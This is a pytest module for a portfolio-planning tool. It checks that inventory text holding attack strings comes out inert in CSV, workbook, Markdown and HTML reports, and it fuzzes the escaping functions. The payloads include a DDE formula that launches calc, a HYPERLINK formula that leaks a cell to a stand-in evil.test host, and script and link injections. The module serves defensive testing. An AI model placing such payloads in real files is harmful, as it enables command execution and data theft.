"""Hostile text in, inert text out: no inventory string becomes a formula, a script, an image
or a link in any file we write (docs/reliability.md, "Inventory text is inert").

One estate carries attack strings in every text field a report shows — the portfolio name,
resource names and units, system names, departments, benefit departments, platform names, a
scenario's description — and every command that writes files runs on it. Each output is then
read the way its consumer reads it: CSV cells and workbook cells as a spreadsheet does,
Markdown through cmark-gfm (GitHub's renderer, raw HTML allowed so our escaping alone must
hold), HTML and the plotly labels inside it as a browser would get them.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cmarkgfm
import openpyxl
import pytest
from cmarkgfm.cmark import Options
from examples import examples
from hypothesis import given, settings
from hypothesis import strategies as st

from prioritiser.textsafe import (
    FORMULA_PREFIXES,
    markdown_table,
    markdown_text,
    plotly_text,
    spreadsheet_cell,
)

LINK = '<a href="https://evil.test/l">click</a>'
SCRIPT = "<script>alert(1)</script>"
IMAGE = "![x](https://evil.test/i.png)"
AUTOLINKS = "see https://evil.test/a, www.evil.test and me@evil.test"
FORMULA = '=HYPERLINK("https://evil.test/?leak="&A2,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (LINK, SCRIPT, IMAGE, AUTOLINKS, FORMULA, DDE, "+SUM(1,2)", "-2+3", "@SUM(A1)")

HOSTILE_RESOURCE = '=HYPERLINK("https://evil.test/r")'
SCRIPT_RESOURCE = "<script>alert(2)</script>"


def hostile_estate(write_inventory: Callable[..., Path], root: Path, **overrides: Any) -> Path:
    """A small valid estate whose every shown text field carries an attack string."""
    portfolio = {
        "portfolio": {"name": f"{LINK} {FORMULA}", "start": "2027-Q1", "periods": 8},
        "resources": {
            "capex": {"unit": "GBP", "per_period": 1_000_000},
            HOSTILE_RESOURCE: {"unit": LINK, "per_period": 10},
            SCRIPT_RESOURCE: {"unit": IMAGE, "per_period": 5},
        },
        "risk": {"max_concurrent_per_department": 3},
        **overrides.pop("portfolio_extra", {}),
    }
    use = {HOSTILE_RESOURCE: 2, SCRIPT_RESOURCE: 1}
    systems = [
        {
            "id": "identity",
            "name": FORMULA,
            "department": DDE,
            "options": [
                {
                    "id": "replatform",
                    "kind": "replatform",
                    "duration": 2,
                    "cost": 100_000,
                    "annual_saving": 90_000,
                    "resource_use": use,
                    "requires_platforms": ["landing"],
                    "benefits": [{"department": AUTOLINKS, "annual": 50_000}],
                }
            ],
        },
        {
            "id": "payments",
            "name": LINK,
            "department": "+SUM(1,2)",
            "depends_on": [{"system": "identity", "kind": SCRIPT, "constraint": "after"}],
            "options": [
                {
                    "id": "replace",
                    "kind": "replace",
                    "duration": 3,
                    "cost": 500_000,
                    "annual_saving": 400_000,
                    "resource_use": use,
                }
            ],
        },
        {
            "id": "reports",
            "name": IMAGE,
            "department": "@SUM(A1)",
            "options": [{"id": "retire", "kind": "retire", "duration": 1, "cost": 1_000}],
        },
        {"id": "kept", "name": AUTOLINKS, "department": "-2+3", "options": []},
    ]
    platforms = [{"id": "landing", "name": SCRIPT, "setup_cost": 50_000, "setup_duration": 1}]
    scenarios = {
        "cut.yaml": {
            "name": "cut",
            "description": f"{LINK} {SCRIPT} {IMAGE} {FORMULA}",
            "resources": {"capex": {"per_period": 600_000}},
        }
    }
    return write_inventory(
        root,
        portfolio=overrides.get("portfolio", portfolio),
        systems=overrides.get("systems", systems),
        platforms=platforms,
        scenarios=scenarios,
    )


# --- how each consumer reads a file -----------------------------------------------------------


def assert_spreadsheet_cell_inert(value: object, where: str) -> None:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        assert re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", value), f"{where}: {value!r}"


def assert_csv_inert(path: Path) -> None:
    for r, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8")))):
        for c, value in enumerate(row):
            assert_spreadsheet_cell_inert(value, f"{path.name} row {r + 1} column {c + 1}")


# Our own formulas (totals, years, use and headroom): these functions, cell references, the
# workbook's own sheet names, arithmetic, and string literals (inventory text inside one is
# a literal: its quotes doubled).
OUR_FUNCTIONS = {"SUM", "SUMIF", "MIN"}
STRING_LITERAL = re.compile(r'"(?:[^"]|"")*"')
FORMULA_SHAPE = re.compile(
    r"=(?:[A-Z]+\(|\$?[A-Z]{1,3}\$?[0-9]+|'[A-Za-z ]+'!|[-+*/:,().0-9 ]|\x00)*"
)


def assert_formula_ours(value: str, sheets: list[str], where: str) -> None:
    bare = STRING_LITERAL.sub("\x00", value)
    assert FORMULA_SHAPE.fullmatch(bare), f"{where} is not one of our formulas: {value!r}"
    assert set(re.findall(r"([A-Z]+)\(", bare)) <= OUR_FUNCTIONS, f"{where}: {value!r}"
    assert set(re.findall(r"'([^']+)'!", bare)) <= set(sheets), f"{where}: {value!r}"


def assert_xlsx_inert(path: Path) -> list[str]:
    """No formula but ours (no inventory text outside a string literal), no text cell starts
    like a formula; returns every text cell."""
    book = openpyxl.load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{path.name} {sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    assert_formula_ours(str(cell.value), book.sheetnames, where)
                    texts += STRING_LITERAL.findall(str(cell.value))
                    continue
                assert_spreadsheet_cell_inert(cell.value, where)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


LIVE = ("<a ", "<a\n", "<a>", "<img", "<script", "<iframe", "<svg")


def assert_markdown_inert(path: Path) -> None:
    """Rendered as GitHub renders it (raw HTML let through), nothing is a link or markup."""
    text = path.read_text(encoding="utf-8")
    rendered = cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)
    for tag in LIVE:
        assert tag not in rendered, f"{path.name} renders {tag!r}:\n{rendered}"


def assert_html_inert(path: Path) -> None:
    """The page holds no markup from the inventory, and plotly gets only escaped labels."""
    text = path.read_text(encoding="utf-8")
    assert LINK not in text and "<script>alert(" not in text, path.name
    # plotly draws `<a href>` in labels: inside the figures' JSON every label is escaped.
    decoded = text.replace("\\u003c", "<").replace("\\u003e", ">").replace("\\u0026", "&")
    decoded = decoded.replace("\\u003C", "<").replace("\\u003E", ">").replace("\\/", "/")
    assert '<a href="https://evil.test' not in decoded, path.name
    assert "<script>alert(" not in decoded, path.name


def outputs(folder: Path) -> dict[str, list[Path]]:
    found: dict[str, list[Path]] = {}
    for path in sorted(folder.iterdir()):
        found.setdefault(path.suffix, []).append(path)
    return found


def assert_folder_inert(folder: Path) -> None:
    files = outputs(folder)
    for path in files.get(".csv", []):
        assert_csv_inert(path)
    for path in files.get(".xlsx", []):
        assert_xlsx_inert(path)
    for path in files.get(".md", []):
        assert_markdown_inert(path)
    for path in files.get(".html", []):
        assert_html_inert(path)


# --- every command that writes -----------------------------------------------------------------


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.conftest import write_inventory

    return hostile_estate(write_inventory, tmp_path_factory.mktemp("hostile") / "estate")


def test_the_hostile_estate_is_valid_and_plans(estate: Path, run_cli: Callable) -> None:
    result = run_cli("validate", estate)
    assert result.exit_code == 0, result.stderr


def test_plan_outputs_hold_no_formula_script_image_or_link(
    estate: Path, run_cli: Callable, tmp_path: Path
) -> None:
    out = tmp_path / "plan"
    result = run_cli("plan", estate, "-o", out)
    assert result.exit_code == 0, result.stderr
    assert_folder_inert(out)
    texts = assert_xlsx_inert(out / "roadmap.xlsx")
    # The names are still there, exactly as typed after the neutralising quote.
    assert "'" + FORMULA in texts and "'" + DDE in texts
    csv_text = (out / "roadmap.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in csv_text and "'+SUM(1,2)" in csv_text


def test_compare_frontier_replan_and_robustness_outputs_are_inert(
    estate: Path, run_cli: Callable, tmp_path: Path
) -> None:
    compared = run_cli("compare", estate, "-o", tmp_path / "compare")
    assert compared.exit_code == 0, compared.stderr
    assert_folder_inert(tmp_path / "compare")
    frontier = run_cli(
        "frontier", estate, "--resource", HOSTILE_RESOURCE, "--steps", "2", "-o",
        tmp_path / "frontier",
    )  # fmt: skip
    assert frontier.exit_code == 0, frontier.stderr
    assert_folder_inert(tmp_path / "frontier")
    assert run_cli("plan", estate, "-o", tmp_path / "plan").exit_code == 0
    replanned = run_cli(
        "replan", estate, "--previous", tmp_path / "plan" / "roadmap.json", "--as-of", "2027-Q3",
        "--scenario", estate / "scenarios" / "cut.yaml", "-o", tmp_path / "replan",
    )  # fmt: skip
    assert replanned.exit_code == 0, replanned.stderr
    assert_folder_inert(tmp_path / "replan")
    robust = run_cli(
        "robustness", estate, "--samples", "3", "--workers", "1", "-o", tmp_path / "robust"
    )
    assert robust.exit_code == 0, robust.stderr
    assert_folder_inert(tmp_path / "robust")


def test_an_infeasible_diagnosis_is_inert(
    write_inventory: Callable, run_cli: Callable, tmp_path: Path
) -> None:
    estate = hostile_estate(write_inventory, tmp_path / "estate")
    systems = yaml_systems(estate)
    systems[1]["must_modernise_by"] = "2028-Q4"  # payments needs 2 of the resource; 1 exists
    (estate / "systems" / "systems.yaml").write_text(json.dumps({"systems": systems}))
    portfolio = (estate / "portfolio.yaml").read_text()
    (estate / "portfolio.yaml").write_text(portfolio.replace("per_period: 10", "per_period: 1"))
    result = run_cli("plan", estate, "-o", tmp_path / "out")
    assert result.exit_code == 4, result.stderr
    assert (tmp_path / "out" / "diagnosis.md").exists()
    assert_folder_inert(tmp_path / "out")


def yaml_systems(estate: Path) -> list[dict[str, Any]]:
    import yaml

    return yaml.safe_load((estate / "systems" / "systems.yaml").read_text())["systems"]


def test_an_imported_csv_with_formula_cells_plans_into_inert_outputs(
    run_cli: Callable, tmp_path: Path
) -> None:
    source = tmp_path / "apps.csv"
    source.write_text(
        "id,name,department,criticality,annual_run_cost\n"
        f'billing,"{FORMULA.replace(chr(34), chr(34) * 2)}",=cmd|x,high,400000\n'
        f"ledger,{SCRIPT},@Tax,medium,100000\n",
        encoding="utf-8",
    )
    imported = run_cli("import", "csv", source, "-o", tmp_path / "estate")
    assert imported.exit_code == 0, imported.stderr
    result = run_cli("plan", tmp_path / "estate", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    assert_folder_inert(tmp_path / "out")


# --- the escaping functions, fuzzed -------------------------------------------------------------

# Formula starts, markup, links, line breaks and table pipes, mixed with ordinary text.
hostile_text = st.lists(
    st.sampled_from([*PAYLOADS, "|", "\n", "\r", "`", "*", "_", "[", "]", "(", ")", "#", "> "])
    | st.text(max_size=6),
    min_size=1,
    max_size=6,
).map("".join)


@settings(max_examples=examples(300), deadline=None, derandomize=True, database=None)
@given(text=hostile_text)
def test_no_text_renders_as_markup_or_a_link_in_markdown(text: str) -> None:
    escaped = markdown_text(text)
    assert "\n" not in escaped and "\r" not in escaped
    document = "\n".join([f"# {escaped}", "", f"- {escaped}", "", escaped, ""])
    document += "\n".join(markdown_table(["a", "b"], [[escaped, "x"]]))
    rendered = cmarkgfm.github_flavored_markdown_to_html(document, options=Options.CMARK_OPT_UNSAFE)
    for tag in (*LIVE, "<em", "<strong", "<code", "<del", "<h2", "<ol", "<blockquote", "<hr"):
        assert tag not in rendered, (text, escaped, rendered)
    # A table row stays one row with two cells, whatever pipes the text holds.
    assert rendered.count("<td>") == 2, (text, rendered)


@settings(max_examples=examples(300), deadline=None, derandomize=True, database=None)
@given(text=hostile_text | st.sampled_from(["-1250.00", "+3", "1e9", "=1+1", "-", "@"]))
def test_no_spreadsheet_cell_starts_like_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert_spreadsheet_cell_inert(cell, repr(text))
    assert cell in (text, "'" + text)


@settings(max_examples=examples(200), deadline=None, derandomize=True, database=None)
@given(text=hostile_text)
def test_plotly_labels_hold_no_tags(text: str) -> None:
    label = plotly_text(text)
    assert "<" not in label and ">" not in label and "\n" not in label


def test_track_outputs_and_its_reforecast_are_inert(
    write_inventory: Callable, run_cli: Callable, tmp_path: Path
) -> None:
    estate = hostile_estate(write_inventory, tmp_path / "estate")
    assert run_cli("plan", estate, "-o", tmp_path / "plan").exit_code == 0
    baseline = json.loads((tmp_path / "plan" / "roadmap.json").read_text())
    starts = {d["system"]: d["start"] for d in baseline["decisions"]}
    as_of = starts["identity"]
    (estate / "actuals").mkdir()
    (estate / "actuals" / "rows.yaml").write_text(
        json.dumps(
            {
                "actuals": [
                    {
                        "system": "identity",
                        "period": as_of,
                        "status": "in_flight",
                        "percent_complete": 20,
                        "spend": 90_000,
                        "realised_benefits": {AUTOLINKS: 1_000},
                        "note": f"{LINK} {FORMULA}",
                    }
                ]
            }
        )
    )
    out = tmp_path / "track"
    result = run_cli(
        "track", estate, "--baseline", tmp_path / "plan" / "roadmap.json", "--as-of", as_of,
        "-o", out,
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert_folder_inert(out)
    assert_folder_inert(out / "reforecast")
    texts = assert_xlsx_inert(out / "tracking.xlsx")
    assert "'" + DDE in texts  # the department, shown as typed after the neutralising quote
